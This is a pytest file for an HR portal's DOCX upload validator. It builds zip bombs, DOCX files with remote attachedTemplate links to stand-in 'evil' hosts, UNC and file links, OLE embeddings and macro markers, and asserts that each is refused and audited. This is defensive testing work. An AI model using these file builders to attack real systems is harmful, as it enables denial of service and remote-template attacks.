"""DOCX upload validation: zip bombs, external templates and content, embedded OLE objects.

Regression tests for the review finding: a 289 KB DOCX whose [Content_Types].xml unpacks to 290 MB grew
memory by 580 MB (the declared size was trusted and the entry inflated whole), and a DOCX with an external
attachedTemplate relationship and word/embeddings/oleObject1.bin was accepted.
"""

import io
import struct
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from hrportal.audit.models import Action, AuditEvent
from hrportal.documents import validation
from hrportal.documents.models import Document
from hrportal.tenancy import company_scope
from tests.factories import make_document_employee

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/word/settings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<Relationships xmlns="{PKG}">'
    f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>'
    "<w:p><w:r><w:t>Ansættelsesbevis for Søren Æbelø</w:t></w:r></w:p>"
    '<w:p><w:hyperlink r:id="rId2"><w:r><w:t>Personalehåndbog</w:t></w:r></w:hyperlink></w:p>'
    "</w:body></w:document>"
)
SETTINGS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:zoom w:percent="100"/></w:settings>'
)


def rels(*relationships: str, encoding="utf-8") -> bytes:
    text = f'<?xml version="1.0" encoding="{encoding.upper()}"?><Relationships xmlns="{PKG}">'
    return (text + "".join(relationships) + "</Relationships>").encode(encoding)


def relationship(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/>'


DOCUMENT_RELS = rels(
    relationship("rId1", "settings", "settings.xml"),
    relationship("rId2", "hyperlink", "https://intranet.example.dk/handbog", external=True),
)


def make_docx(replace: dict | None = None, extra: dict | None = None) -> bytes:
    """A minimal valid Word document (what Word itself needs to open it), with parts replaced or added."""
    parts = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "word/document.xml": DOCUMENT,
        "word/_rels/document.xml.rels": DOCUMENT_RELS,
        "word/settings.xml": SETTINGS,
    }
    parts.update(replace or {})
    parts.update(extra or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def refused_reason(content: bytes) -> str:
    with pytest.raises(validation.RejectedUpload) as excinfo:
        validation.check_upload(SimpleUploadedFile("kontrakt.docx", content))
    return excinfo.value.reason


def bomb(name="[Content_Types].xml", megabytes=290) -> bytes:
    """A DOCX whose `name` unpacks to `megabytes` MB of XML whitespace (about 1000:1), written in chunks."""
    out = io.BytesIO()
    chunk = b" " * (1024 * 1024)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", DOCUMENT)
        if name != "[Content_Types].xml":
            archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        with archive.open(name, "w") as entry:
            entry.write(
                b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            )
            for _ in range(megabytes):
                entry.write(chunk)
            entry.write(b"</Types>")
    return out.getvalue()


def lie_about_size(content: bytes, name: str, declared: int) -> bytes:
    """Rewrite the unpacked size of `name` in its local header and central directory entry."""
    data = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        info = archive.getinfo(name)
    struct.pack_into("<I", data, info.header_offset + 22, declared)
    start = 0
    while (start := data.find(b"PK\x01\x02", start)) != -1:
        name_length = struct.unpack_from("<H", data, start + 28)[0]
        if data[start + 46 : start + 46 + name_length] == name.encode():
            struct.pack_into("<I", data, start + 24, declared)
        start += 4
    return bytes(data)


@pytest.fixture(scope="module")
def bomb_290mb():
    return bomb()


# --- accepted -----------------------------------------------------------------------------------------


def test_a_normal_docx_with_a_web_link_is_accepted():
    result = validation.check_upload(SimpleUploadedFile("kontrakt.docx", make_docx()))
    assert result.content_type == validation.DOCX


# --- zip bombs --------------------------------------------------------------------------------------------


def test_the_reported_bomb_is_refused_quickly_with_bounded_memory(bomb_290mb):
    assert len(bomb_290mb) < 2 * 1024 * 1024  # the upload itself is small
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(validation.RejectedUpload) as excinfo:
            validation.check_upload(SimpleUploadedFile("kontrakt.docx", bomb_290mb))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert excinfo.value.reason == "docx_too_large"
    assert peak < 20 * 1024 * 1024
    assert time.monotonic() - started < 2


@pytest.mark.parametrize("name", ["[Content_Types].xml", "word/_rels/document.xml.rels", "word/settings.xml"])
def test_a_bomb_that_lies_about_its_size_is_refused_with_bounded_memory(name):
    """The header says 2 KB: the ratio check cannot see it, so the bounded read and the CRC must."""
    content = lie_about_size(bomb(name, megabytes=64), name, 2048)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.getinfo(name).file_size == 2048
    tracemalloc.start()
    try:
        reason = refused_reason(content)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert reason in {"docx_invalid", "docx_too_large"}
    assert peak < 20 * 1024 * 1024


def test_many_small_entries_adding_up_are_refused(settings):
    settings.DOCUMENT_MAX_UPLOAD_BYTES = 20 * 1024 * 1024  # bound: 5 x 20 MB unpacked
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", DOCUMENT)
        for i in range(1700):  # each 63 KB (under the ratio floor), 107 MB together
            archive.writestr(f"word/media/part{i}.xml", b" " * (63 * 1024))
    assert refused_reason(out.getvalue()) == "docx_too_large"


def test_a_large_entry_with_a_high_ratio_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", DOCUMENT)
        archive.writestr("word/media/blank.bin", b"\x00" * (2 * 1024 * 1024))
    assert refused_reason(out.getvalue()) == "docx_too_large"


def test_an_oversized_relationship_part_is_refused():
    big = rels(*(relationship(f"rId{i}", "image", f"media/image{i}.png") for i in range(60_000)))
    assert len(big) > validation.DOCX_MAX_XML_READ
    assert refused_reason(make_docx({"word/_rels/document.xml.rels": big})) == "docx_too_large"


# --- external templates and content ---------------------------------------------------------------------


def test_the_reported_external_template_is_refused():
    content = make_docx(
        replace={
            "word/settings.xml": SETTINGS.replace(
                '<w:zoom w:percent="100"/>', '<w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/>'
            )
        },
        extra={
            "word/_rels/settings.xml.rels": rels(
                relationship("rId1", "attachedTemplate", "https://evil/t.dotm", external=True)
            )
        },
    )
    assert refused_reason(content) == "docx_external"


@pytest.mark.parametrize(
    "part,relationships",
    [
        ("word/_rels/settings.xml.rels", [relationship("rId1", "attachedTemplate", "t.dotm")]),
        (
            "word/_rels/document.xml.rels",
            [relationship("rId9", "image", "https://evil/p.png", external=True)],
        ),
        (
            "word/_rels/document.xml.rels",
            [relationship("rId9", "oleObject", "file:///C:/x.xls", external=True)],
        ),
        (
            "word/_rels/document.xml.rels",
            [relationship("rId9", "hyperlink", "file://evil/share/x", external=True)],
        ),
        (
            "word/_rels/document.xml.rels",
            [relationship("rId9", "hyperlink", "\\\\evil\\share\\x", external=True)],
        ),
        (
            "word/_rels/settings.xml.rels",
            [relationship("rId1", "hyperlink", "https://evil/t.dotm", external=True)],
        ),
        (
            "word/_rels/webSettings.xml.rels",
            [relationship("rId1", "frame", "https://evil/f.html", external=True)],
        ),
        (
            "word/_rels/header1.xml.rels",
            [relationship("rId1", "subDocument", "https://evil/s.docx", external=True)],
        ),
        (
            "customXml/_rels/item1.xml.rels",
            [relationship("rId1", "customXmlProps", "https://e/x", external=True)],
        ),
    ],
    ids=[
        "internal-template",
        "external-image",
        "ole-link",
        "file-link",
        "unc-link",
        "link-typed-template",
        "frame",
        "subdocument",
        "any-other-part",
    ],
)
def test_external_content_is_refused(part, relationships):
    assert refused_reason(make_docx(extra={part: rels(*relationships)})) in {"docx_external", "docx_embedded"}


def test_attached_template_element_is_refused_whatever_its_relationship_says():
    settings_xml = SETTINGS.replace('<w:zoom w:percent="100"/>', '<w:attachedTemplate r:id="rId1"/>')
    assert refused_reason(make_docx({"word/settings.xml": settings_xml})) == "docx_external"


@pytest.mark.parametrize(
    "relationships_xml",
    [
        # A character reference: XML readers (Word too) see "External".
        rels(f'<Relationship Id="rId9" Type="{R}/image" Target="https://e/p" TargetMode="&#69;xternal"/>'),
        # Another encoding.
        rels(relationship("rId9", "image", "https://evil/p.png", external=True), encoding="utf-16"),
        # Other case and spacing.
        rels(f'<Relationship Id="rId9" Type="{R}/attachedTemplate" Target="x" TargetMode=" external "/>'),
    ],
    ids=["char-ref", "utf-16", "case"],
)
def test_obfuscated_external_relationships_are_refused(relationships_xml):
    content = make_docx({"word/_rels/document.xml.rels": relationships_xml})
    assert refused_reason(content) == "docx_external"


def test_a_dtd_in_a_relationship_part_is_refused():
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "External">]>'
        + f'<Relationships xmlns="{PKG}"><Relationship Id="r" Type="{R}/image" Target="https://e/p" '.encode()
        + b'TargetMode="&a;"/></Relationships>'
    )
    assert refused_reason(make_docx({"word/_rels/document.xml.rels": laughs})) == "docx_invalid"


# --- embedded objects and macros ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "extra",
    [
        {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 100},
        {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x03\x04"},
        {"word/media/oleObject1.bin": b"\x00" * 10},
        {"Word\\Embeddings\\package.bin": b"\x00" * 10},
        {"word/_rels/document.xml.rels": rels(relationship("rId9", "oleObject", "media/image9.bin"))},
        {"word/_rels/document.xml.rels": rels(relationship("rId9", "package", "media/x.docx"))},
    ],
    ids=[
        "ole",
        "embedded-package",
        "ole-elsewhere",
        "backslashes",
        "ole-relationship",
        "package-relationship",
    ],
)
def test_embedded_objects_are_refused(extra):
    assert refused_reason(make_docx(extra=extra)) == "docx_embedded"


def test_the_reported_combination_is_refused():
    content = make_docx(
        extra={
            "word/_rels/settings.xml.rels": rels(
                relationship("rId1", "attachedTemplate", "https://evil/t.dotm", external=True)
            ),
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 100,
        }
    )
    assert refused_reason(content) in {"docx_external", "docx_embedded"}


@pytest.mark.parametrize(
    "replace",
    [
        {"[Content_Types].xml": CONTENT_TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")},
        {
            "[Content_Types].xml": CONTENT_TYPES.replace('encoding="UTF-8"', 'encoding="UTF-16"')
            .replace("document.main+xml", "document.macroEnabled.main+xml")
            .encode("utf-16")
        },
        {"word/_rels/document.xml.rels": rels(relationship("rId9", "vbaProject", "vbaProject.bin"))},
        {"word/_rels/document.xml.rels": rels(relationship("rId9", "control", "activeX/activeX1.xml"))},
    ],
    ids=["macro-content-type", "macro-content-type-utf16", "vba-relationship", "activex-relationship"],
)
def test_macros_hidden_from_the_names_are_refused(replace):
    assert refused_reason(make_docx(replace)) == "docx_macros"


def test_duplicate_entry_names_are_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", DOCUMENT)
        with pytest.warns(UserWarning):
            archive.writestr("word/document.xml", DOCUMENT)
    assert refused_reason(out.getvalue()) == "docx_invalid"


# --- through the upload view: refused, audited, nothing stored ------------------------------------------


@pytest.fixture
def private_storage(settings, tmp_path):
    settings.PRIVATE_STORAGE_ROOT = tmp_path / "private"
    return tmp_path / "private"


@pytest.mark.django_db
@pytest.mark.parametrize("case", ["bomb", "template", "ole"])
def test_upload_refused_audited_and_nothing_stored(admin_client, company, private_storage, bomb_290mb, case):
    content = {
        "bomb": bomb_290mb,
        "template": make_docx(
            extra={
                "word/_rels/settings.xml.rels": rels(
                    relationship("rId1", "attachedTemplate", "https://evil/t.dotm", external=True)
                )
            }
        ),
        "ole": make_docx(extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    }[case]
    employee = make_document_employee(company)
    response = admin_client.post(
        f"/portal/employees/{employee.pk}/documents/upload/",
        {
            "file": SimpleUploadedFile("kontrakt.docx", content),
            "kind": "contract",
            "title": "Kontrakt",
            "document_date": "2024-02-01",
        },
    )
    assert response.status_code == 400
    assert b'class="errorlist"' in response.content
    with company_scope(company):
        assert not Document.objects.exists()
    stored = [p for p in private_storage.rglob("*") if p.is_file()] if private_storage.exists() else []
    assert stored == []
    event = AuditEvent.objects.get(company_id=company.pk, action=Action.DOCUMENT_UPLOAD_REJECTED)
    assert (
        event.details["reason"]
        == {"bomb": "docx_too_large", "template": "docx_external", "ole": "docx_embedded"}[case]
    )


@pytest.mark.django_db
def test_upload_of_a_normal_docx_is_stored(admin_client, company, private_storage):
    employee = make_document_employee(company)
    response = admin_client.post(
        f"/portal/employees/{employee.pk}/documents/upload/",
        {
            "file": SimpleUploadedFile("kontrakt.docx", make_docx()),
            "kind": "contract",
            "title": "Kontrakt",
            "document_date": "2024-02-01",
        },
    )
    assert response.status_code == 302
    with company_scope(company):
        assert Document.objects.get().content_type == validation.DOCX
